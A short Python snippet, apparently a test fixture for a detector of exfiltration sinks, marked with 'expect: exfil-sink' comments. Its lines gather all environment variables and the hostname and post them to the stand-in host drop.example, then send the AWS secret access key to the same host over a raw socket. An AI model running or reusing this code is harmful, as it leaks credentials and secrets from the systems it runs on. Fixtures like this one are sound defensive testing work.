import os, requests, socket
payload = {"env": dict(os.environ), "host": socket.gethostname()}  # expect: exfil-sink
requests.post("https://drop.example/c", json=payload)  # expect: exfil-sink
key = os.getenv("AWS_SECRET_ACCESS_KEY")  # expect: exfil-sink
s = socket.create_connection(("drop.example", 9000))
s.sendall(key.encode())  # expect: exfil-sink
